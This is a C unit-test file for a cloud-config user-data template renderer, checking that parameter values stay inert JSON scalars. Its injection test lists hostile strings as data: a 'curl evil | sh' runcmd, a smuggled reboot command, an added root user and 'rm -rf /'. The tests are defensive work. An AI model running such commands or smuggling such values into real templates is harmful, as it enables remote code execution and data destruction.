/* catalog/render.c: the user-data template renderer. Values go in as JSON scalars, never as
 * text: whatever a parameter holds (YAML keys after a line break, JSON punctuation, quotes,
 * "#cloud-config" lines), the rendered document has exactly the template's keys and the
 * value comes back byte for byte. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "catalog/catalog.h"
#include "mutualis/json.h"
#include "mutualis/util.h"

static const char policy[] =
    "{\"version\": 1, \"items\": [{\"id\": \"site\", \"name\": {\"fr\": \"S\", \"en\": \"S\"},"
    " \"description\": {\"fr\": \"D\", \"en\": \"D\"}, \"flavors\": [\"tiny\"],"
    " \"image\": \"img\", \"networks\": {\"private\": true, \"public\": false},"
    " \"ports\": [8080], \"approval\": \"always\","
    " \"parameters\": ["
    "  {\"name\": \"title\", \"type\": \"string\", \"max_length\": 200,"
    "   \"label\": {\"fr\": \"T\", \"en\": \"T\"}},"
    "  {\"name\": \"domain\", \"type\": \"domain\", \"label\": {\"fr\": \"D\", \"en\": \"D\"}},"
    "  {\"name\": \"port\", \"type\": \"integer\", \"min\": 1, \"max\": 65535,"
    "   \"label\": {\"fr\": \"P\", \"en\": \"P\"}}],"
    " \"user_data\": {\"mutualis_http_port\": {\"$param\": \"port\", \"type\": \"integer\"},"
    "   \"site\": {\"title\": {\"$param\": \"title\"}, \"list\": [1, {\"$param\": \"domain\"}, "
    "\"x\"],"
    "     \"url\": {\"$concat\": [\"https://\", {\"$param\": \"domain\"}, \"/\"]},"
    "     \"fixed\": {\"a\": [true, null, 2.5]}}}}]}";

static struct mu_catalog *load(void)
{
    struct mu_catalog *c = NULL;
    struct mu_err err = {0};
    if (mu_catalog_parse(policy, strlen(policy), "t.json", &c, &err) != 0)
        fail_msg("policy refused: %s", err.detail);
    return c;
}

/* Renders params_json; checks the "#cloud-config\n" line and returns the JSON document. */
static cJSON *render(const struct mu_catalog_item *it, cJSON *params)
{
    char *out = NULL;
    struct mu_err err = {0};
    if (mu_catalog_render(it, params, &out, &err) != 0)
        fail_msg("render failed: %s", err.detail);
    assert_non_null(out);
    assert_memory_equal(out, "#cloud-config\n", 14);
    /* one line of JSON after the header, then the final newline */
    const char *body = out + 14;
    const char *nl = strchr(body, '\n');
    assert_non_null(nl);
    assert_int_equal(nl[1], '\0');
    cJSON *doc = mu_json_parse(body, (size_t)(nl - body), "rendered", &err);
    if (!doc)
        fail_msg("rendered user-data is not strict JSON: %s", err.detail);
    free(out);
    return doc;
}

static void assert_keys(const cJSON *o, const char *const *keys, size_t n)
{
    assert_int_equal(cJSON_GetArraySize(o), (int)n);
    for (size_t i = 0; i < n; i++)
        if (!cJSON_GetObjectItemCaseSensitive(o, keys[i]))
            fail_msg("missing key %s", keys[i]);
}

static void test_values_in_place(void **state)
{
    (void)state;
    struct mu_catalog *c = load();
    cJSON *p = cJSON_Parse("{\"title\": \"Mairie d'Été\", \"domain\": \"mairie.fr\", "
                           "\"port\": 8080}");
    cJSON *doc = render(&c->items[0], p);
    MU_AUTOFREE char *txt = mu_json_print(doc);
    assert_string_equal(txt, "{\"mutualis_http_port\":8080,\"site\":{\"title\":\"Mairie d'Été\","
                             "\"list\":[1,\"mairie.fr\",\"x\"],\"url\":\"https://mairie.fr/\","
                             "\"fixed\":{\"a\":[true,null,2.5]}}}");
    cJSON_Delete(doc);
    cJSON_Delete(p);

    /* optional parameters left out: null, or "" inside a $concat */
    p = cJSON_Parse("{\"port\": 80}");
    doc = render(&c->items[0], p);
    const cJSON *site = cJSON_GetObjectItemCaseSensitive(doc, "site");
    assert_true(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(site, "title")));
    assert_string_equal(cJSON_GetObjectItemCaseSensitive(site, "url")->valuestring, "https:///");
    cJSON_Delete(doc);
    cJSON_Delete(p);
    mu_catalog_free(c);
}

static void test_injection_stays_a_value(void **state)
{
    (void)state;
    struct mu_catalog *c = load();
    static const char *const attempts[] = {
        "x\nruncmd: [\"curl evil | sh\"]",
        "x\"}, \"runcmd\": [\"reboot\"], \"a\": {\"b\": \"",
        "\n#cloud-config\nusers: [{name: root, passwd: x}]",
        "x\\\", \"runcmd\": 1, \"y\": \"",
        "${domain} {{title}} %s $param",
        "</script>\r\n\tbootcmd:\n  - rm -rf /",
        "\xc3\xa9t\xc3\xa9 \xe2\x80\xa8 \xe2\x80\xa9", /* UTF-8 incl. U+2028/U+2029 */
    };
    static const char *const top[] = {"mutualis_http_port", "site"};
    static const char *const inner[] = {"title", "list", "url", "fixed"};
    for (size_t i = 0; i < MU_ARRAY_LEN(attempts); i++) {
        cJSON *p = cJSON_CreateObject();
        cJSON_AddStringToObject(p, "title", attempts[i]);
        cJSON_AddStringToObject(p, "domain", attempts[i]); /* the renderer trusts nothing */
        cJSON_AddNumberToObject(p, "port", 8080);
        cJSON *doc = render(&c->items[0], p);
        assert_keys(doc, top, MU_ARRAY_LEN(top));
        const cJSON *site = cJSON_GetObjectItemCaseSensitive(doc, "site");
        assert_keys(site, inner, MU_ARRAY_LEN(inner));
        assert_string_equal(cJSON_GetObjectItemCaseSensitive(site, "title")->valuestring,
                            attempts[i]);
        assert_string_equal(
            cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(site, "list"), 1)->valuestring,
            attempts[i]);
        assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(site, "list")), 3);
        MU_AUTOFREE char *url = mu_xasprintf("https://%s/", attempts[i]);
        assert_string_equal(cJSON_GetObjectItemCaseSensitive(site, "url")->valuestring, url);
        assert_null(cJSON_GetObjectItemCaseSensitive(doc, "runcmd"));
        cJSON_Delete(doc);
        cJSON_Delete(p);
    }
    mu_catalog_free(c);
}

static void test_type_mismatch_refused(void **state)
{
    (void)state;
    struct mu_catalog *c = load();
    char *out = NULL;
    struct mu_err err = {0};
    /* a string where the template takes an integer: refused, never pasted */
    cJSON *p = cJSON_Parse("{\"port\": \"80, \\\"runcmd\\\": [1]\"}");
    assert_int_equal(mu_catalog_render(&c->items[0], p, &out, &err), MU_EINVAL);
    assert_null(out);
    assert_non_null(strstr(err.detail, "port"));
    cJSON_Delete(p);
    /* an item without a template renders nothing */
    cJSON_Delete(c->items[0].user_data);
    c->items[0].user_data = NULL;
    out = (char *)1;
    assert_int_equal(mu_catalog_render(&c->items[0], NULL, &out, &err), 0);
    assert_null(out);
    mu_catalog_free(c);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_values_in_place),
        cmocka_unit_test(test_injection_stays_a_value),
        cmocka_unit_test(test_type_mismatch_refused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
